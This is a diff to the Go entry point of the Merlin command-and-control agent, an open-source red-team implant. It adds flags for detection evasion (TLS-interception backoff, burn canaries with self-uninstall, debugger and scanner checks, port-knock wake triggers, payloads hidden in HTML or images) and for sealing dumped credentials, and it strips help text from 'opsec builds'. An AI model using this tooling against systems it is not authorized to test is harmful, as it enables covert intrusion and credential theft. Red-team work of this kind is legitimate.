@@ -33,6 +33,7 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/agent"
+	"github.com/Ne0nd0g/merlin-agent/cli"
 	"github.com/Ne0nd0g/merlin-agent/clients/http"
 	"github.com/Ne0nd0g/merlin-agent/core"
 )
@@ -45,35 +46,94 @@ var psk = "merlin"
 var proxy = ""
 var host = ""
 var headers = ""
+var uris = ""
+var hosts = ""
+var useragents = ""
+var response = ""
 var ja3 = ""
 var useragent = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/40.0.2214.85 Safari/537.36"
 var sleep = "30s"
 var skew = "3000"
 var killdate = "0"
 var maxretry = "7"
+var maxoutput = "1048576"
+var metrics = "0"
+var wake = ""
+var adaptive = "0"
 var padding = "4096"
 var opaque []byte
 var parrot = ""
+var resolver = ""
+var keepalive = "30s"
+var idle = "0s"
+var lootkey = ""
+var cloneua = "false"
+var pins = ""
+var tlspolicy = ""
+var fallback = ""
+var profiles = ""
+var canary = ""
+var canaryaction = ""
+var hibernate = ""
+var selfcheck = ""
+var auditfile = ""
+var ratelimit = ""
+var local = ""
+var failover = ""
+var dryrun = "false"
+
+// policy is only set at build time, there is no flag that would let it be changed when the agent is run
+var policy = ""
 
 func main() {
-	verbose := flag.Bool("v", false, "Enable verbose output")
-	version := flag.Bool("version", false, "Print the agent version and exit")
-	debug := flag.Bool("debug", false, "Enable debug output")
-	flag.StringVar(&url, "url", url, "Full URL for agent to connect to")
-	flag.StringVar(&psk, "psk", psk, "Pre-Shared Key used to encrypt initial communications")
-	flag.StringVar(&protocol, "proto", protocol, "Protocol for the agent to connect with [https (HTTP/1.1), http (HTTP/1.1 Clear-Text), h2 (HTTP/2), h2c (HTTP/2 Clear-Text), http3 (QUIC or HTTP/3.0)]")
-	flag.StringVar(&proxy, "proxy", proxy, "Hardcoded proxy to use for http/1.1 traffic only that will override host configuration")
-	flag.StringVar(&host, "host", host, "HTTP Host header")
-	flag.StringVar(&ja3, "ja3", ja3, "JA3 signature string (not the MD5 hash). Overrides -proto & -parrot flags")
-	flag.StringVar(&parrot, "parrot", ja3, "parrot or mimic a specific browser from github.com/refraction-networking/utls (e.g., HelloChrome_Auto")
-	flag.StringVar(&sleep, "sleep", sleep, "Time for agent to sleep")
-	flag.StringVar(&skew, "skew", skew, "Amount of skew, or variance, between agent checkins")
-	flag.StringVar(&killdate, "killdate", killdate, "The date, as a Unix EPOCH timestamp, that the agent will quit running")
-	flag.StringVar(&maxretry, "maxretry", maxretry, "The maximum amount of failed checkins before the agent will quit running")
-	flag.StringVar(&padding, "padding", padding, "The maximum amount of data that will be randomly selected and appended to every message")
-	flag.StringVar(&useragent, "useragent", useragent, "The HTTP User-Agent header string that the Agent will use while sending traffic")
-	flag.StringVar(&headers, "headers", headers, "A new line separated (e.g., \\n) list of additional HTTP headers to use")
+	verbose := flag.Bool("v", false, "")
+	version := flag.Bool("version", false, "")
+	debug := flag.Bool("debug", false, "")
+	flag.StringVar(&url, "url", url, "")
+	flag.StringVar(&psk, "psk", psk, "")
+	flag.StringVar(&protocol, "proto", protocol, "")
+	flag.StringVar(&proxy, "proxy", proxy, "")
+	flag.StringVar(&host, "host", host, "")
+	flag.StringVar(&resolver, "resolver", resolver, "")
+	flag.StringVar(&pins, "pins", pins, "")
+	flag.StringVar(&tlspolicy, "tlspolicy", tlspolicy, "")
+	flag.StringVar(&fallback, "fallback", fallback, "")
+	flag.StringVar(&profiles, "profiles", profiles, "")
+	flag.StringVar(&canary, "canary", canary, "")
+	flag.StringVar(&canaryaction, "canaryaction", canaryaction, "")
+	flag.StringVar(&hibernate, "hibernate", hibernate, "")
+	flag.StringVar(&selfcheck, "selfcheck", selfcheck, "")
+	flag.StringVar(&auditfile, "audit", auditfile, "")
+	flag.StringVar(&failover, "failover", failover, "")
+	flag.StringVar(&local, "local", local, "")
+	flag.StringVar(&dryrun, "dryrun", dryrun, "")
+	flag.StringVar(&ratelimit, "ratelimit", ratelimit, "")
+	flag.StringVar(&keepalive, "keepalive", keepalive, "")
+	flag.StringVar(&idle, "idle", idle, "")
+	flag.StringVar(&ja3, "ja3", ja3, "")
+	flag.StringVar(&parrot, "parrot", ja3, "")
+	flag.StringVar(&sleep, "sleep", sleep, "")
+	flag.StringVar(&skew, "skew", skew, "")
+	flag.StringVar(&killdate, "killdate", killdate, "")
+	flag.StringVar(&maxretry, "maxretry", maxretry, "")
+	flag.StringVar(&maxoutput, "maxoutput", maxoutput, "")
+	flag.StringVar(&metrics, "metrics", metrics, "")
+	flag.StringVar(&adaptive, "adaptive", adaptive, "")
+	flag.StringVar(&wake, "wake", wake, "")
+	flag.StringVar(&lootkey, "lootkey", lootkey, "")
+	flag.StringVar(&padding, "padding", padding, "")
+	flag.StringVar(&useragent, "useragent", useragent, "")
+	flag.StringVar(&cloneua, "cloneua", cloneua, "")
+	flag.StringVar(&headers, "headers", headers, "")
+	flag.StringVar(&uris, "uris", uris, "")
+	flag.StringVar(&hosts, "hosts", hosts, "")
+	flag.StringVar(&useragents, "useragents", useragents, "")
+	flag.StringVar(&response, "response", response, "")
 
+	// The flag descriptions are only compiled into the agent with messages so opsec builds don't contain them
+	if cli.Enabled {
+		describeFlags()
+	}
 	flag.Usage = usage
 
 	if len(os.Args) <= 1 {
@@ -96,8 +156,10 @@ func main() {
 	flag.Parse()
 
 	if *version {
-		color.Blue(fmt.Sprintf("Merlin Agent Version: %s", core.Version))
-		color.Blue(fmt.Sprintf("Merlin Agent Build: %s", build))
+		if cli.Enabled {
+			color.Blue(fmt.Sprintf("Merlin Agent Version: %s", core.Version))
+			color.Blue(fmt.Sprintf("Merlin Agent Build: %s", build))
+		}
 		os.Exit(0)
 	}
 
@@ -106,10 +168,28 @@ func main() {
 
 	// Setup and run agent
 	agentConfig := agent.Config{
-		Sleep:    sleep,
-		Skew:     skew,
-		KillDate: killdate,
-		MaxRetry: maxretry,
+		Sleep:        sleep,
+		Skew:         skew,
+		KillDate:     killdate,
+		MaxRetry:     maxretry,
+		MaxOutput:    maxoutput,
+		Metrics:      metrics,
+		Wake:         wake,
+		Adaptive:     adaptive,
+		LootKey:      lootkey,
+		TLSPolicy:    tlspolicy,
+		Profiles:     profiles,
+		Canary:       canary,
+		CanaryAction: canaryaction,
+		Hibernate:    hibernate,
+		PSK:          psk,
+		SelfCheck:    selfcheck,
+		Policy:       policy,
+		Audit:        auditfile,
+		RateLimit:    ratelimit,
+		Failover:     failover,
+		Local:        local,
+		DryRun:       strings.EqualFold(dryrun, "true"),
 	}
 	a := agent.New(agentConfig)
 
@@ -120,8 +200,18 @@ func main() {
 		Protocol:    protocol,
 		Host:        host,
 		Headers:     headers,
+		URIs:        uris,
+		Hosts:       hosts,
+		UserAgents:  useragents,
+		Response:    response,
 		Proxy:       proxy,
+		Resolver:    resolver,
+		KeepAlive:   keepalive,
+		Idle:        idle,
 		UserAgent:   useragent,
+		CloneUA:     strings.EqualFold(cloneua, "true"),
+		Pins:        pins,
+		Fallback:    fallback,
 		PSK:         psk,
 		JA3:         ja3,
 		Padding:     padding,
@@ -136,7 +226,7 @@ func main() {
 
 	a.Client, errClient = http.New(clientConfig)
 	if errClient != nil {
-		if *verbose {
+		if cli.Enabled && *verbose {
 			color.Red(errClient.Error())
 		}
 		os.Exit(1)
@@ -146,10 +236,63 @@ func main() {
 	a.Run()
 }
 
+// describeFlags sets the description of each command line flag printed by usage
+func describeFlags() {
+	for name, description := range map[string]string{
+		"v":            "Enable verbose output",
+		"version":      "Print the agent version and exit",
+		"debug":        "Enable debug output",
+		"url":          "Full URL for agent to connect to",
+		"psk":          "Pre-Shared Key used to encrypt initial communications",
+		"proto":        "Protocol for the agent to connect with [https (HTTP/1.1), http (HTTP/1.1 Clear-Text), h2 (HTTP/2), h2c (HTTP/2 Clear-Text), http3 (QUIC or HTTP/3.0), icmp (HTTP/1.1 tunneled through ICMP echo requests to a relay)]",
+		"proxy":        "Hardcoded proxy to use for http/1.1 traffic only that will override host configuration, direct ignores the host configuration",
+		"host":         "HTTP Host header",
+		"resolver":     "DNS server (e.g., 8.8.8.8, tcp://8.8.8.8:53) or DNS over HTTPS URL (e.g., https://1.1.1.1/dns-query) used to resolve the C2 hostname instead of the system resolver",
+		"pins":         "A comma separated list of SHA256 certificate hashes in hex or sha256/<base64> public key hashes the C2 server's TLS certificate chain must match; the agent backs off instead of communicating through a TLS intercepting proxy",
+		"tlspolicy":    "What the agent does when TLS interception is detected [backoff, dormant, fallback, exit]; any value also detects certificates issued by TLS inspection products",
+		"fallback":     "The protocol and URL, separated by a comma, switched to by the fallback TLS interception policy (e.g., http3,https://10.0.0.1:443)",
+		"profiles":     "Named communication profiles the profile control switches to, each starting with -profile <name> followed by the flags it sets (e.g., -profile phase2 -url https://10.0.0.1/ -proto h2 -sleep 1h)",
+		"canary":       "A hostname or URL the agent periodically checks to learn it is burned [dns:<hostname>[=<ip>,...], url:<URL>[#<marker>]]",
+		"canaryaction": "What the agent does when the canary is tripped [dormant, profile:<name>, exit, uninstall]",
+		"hibernate":    "The file the hibernate control writes its end time to, encrypted, so a restarted agent keeps hibernating instead of checking in",
+		"selfcheck":    "How often the agent checks for debuggers and memory scanners and what it does when found [<interval>[,report|dormant|profile:<name>|exit|uninstall]]",
+		"audit":        "A file every executed job is recorded in, sealed to the operator public key, for deconfliction and reporting",
+		"failover":     "Shift traffic to the healthiest communication profile after consecutive failed check ins or when the current one's health score drops below the minimum [<failures>[,<minimum score 0-100>]]",
+		"local":        "A named pipe, on Windows, or Unix domain socket, elsewhere, only the agent's user can connect to that local tools queue jobs and retrieve the agent's status through",
+		"dryrun":       "Simulate injection, dumping, and persistence jobs by describing the actions they would take and the artifacts they would create instead of executing them (true or false)",
+		"ratelimit":    "The number of results per minute returned to the server and the burst size so a flood of results is spread over multiple check ins [<rate>[,<burst>]]",
+		"keepalive":    "How often a persistent HTTP/2 or HTTP/3 connection is pinged to keep it open between check ins (0s disables the pings)",
+		"idle":         "How long a persistent connection can go unused before it is closed (0s keeps it open)",
+		"ja3":          "JA3 signature string (not the MD5 hash). Overrides -proto & -parrot flags",
+		"parrot":       "parrot or mimic a specific browser from github.com/refraction-networking/utls (e.g., HelloChrome_Auto",
+		"sleep":        "Time for agent to sleep",
+		"skew":         "Amount of skew, or variance, between agent checkins",
+		"killdate":     "The date, as a Unix EPOCH timestamp, an RFC 3339 time, or a date and time followed by UTC or local, that the agent will quit running",
+		"maxretry":     "The maximum amount of failed checkins before the agent will quit running",
+		"maxoutput":    "The largest job output, in bytes, returned inline with a job result; larger output is held in the agent's staging area (0 is unlimited)",
+		"metrics":      "The number of check ins between agent runtime metrics reports (0 is disabled)",
+		"adaptive":     "The factor sleep is lengthened by while a user is active and shortened by while the host is idle (0 is disabled)",
+		"wake":         "A trigger that ends the agent's sleep early [udp:<port>:<secret>, icmp:<secret>, knock:<port>,<port>,...]",
+		"lootkey":      "Base64 encoded X25519 public key that results from sensitive modules (e.g., hashdump, ntds) are sealed to before they are sent",
+		"padding":      "The maximum amount of data that will be randomly selected and appended to every message",
+		"useragent":    "The HTTP User-Agent header string that the Agent will use while sending traffic",
+		"cloneua":      "Use the User-Agent of the host's default web browser instead of the -useragent value when it can be determined (true or false)",
+		"headers":      "A new line separated (e.g., \\n) list of additional HTTP headers to use",
+		"uris":         "A comma separated list of URI paths (e.g., /news.php|3,/login.aspx) randomly selected for each request, by optional |weight",
+		"hosts":        "A comma separated list of HTTP Host header values randomly selected for each request, by optional |weight",
+		"useragents":   "A new line separated (e.g., \\n) list of User-Agent strings randomly selected for each request, by optional |weight",
+		"response":     "Where the payload is embedded in the HTTP response body [html[:marker], json:field.path, image, regex:pattern], empty if the body is the payload",
+	} {
+		flag.Lookup(name).Usage = description
+	}
+}
+
 // usage prints command line options
 func usage() {
-	fmt.Printf("Merlin Agent\r\n")
-	flag.PrintDefaults()
+	if cli.Enabled {
+		fmt.Printf("Merlin Agent\r\n")
+		flag.PrintDefaults()
+	}
 	os.Exit(0)
 }
 
@@ -159,7 +302,7 @@ func getArgsFromStdIn(input chan string, verbose bool) {
 	for {
 		result, err := bufio.NewReader(os.Stdin).ReadString('\n')
 		if err != nil && err != io.EOF {
-			if verbose {
+			if cli.Enabled && verbose {
 				color.Red(fmt.Sprintf("there was an error reading from STDIN: %s", err))
 			}
 			return